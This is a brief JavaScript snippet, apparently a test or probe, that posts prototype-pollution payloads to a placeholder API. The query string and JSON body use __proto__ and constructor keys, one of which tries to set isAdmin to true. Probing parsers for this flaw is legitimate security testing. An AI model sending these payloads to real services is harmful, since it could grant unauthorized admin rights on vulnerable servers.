const response = await fetch("https://api.example.com/v1/proto?__proto__=q&constructor=c&filter%5B__proto__%5D=nested", {
  method: "POST",
  headers: {
    "Content-Type": "application/json",
  },
  body: JSON.stringify({
    ["__proto__"]: {
      isAdmin: true,
    },
    constructor: {
      prototype: {
        polluted: true,
      },
    },
    toString: "x",
    list: [
      {
        ["__proto__"]: null,
      },
    ],
  }),
});

console.log(await response.text());
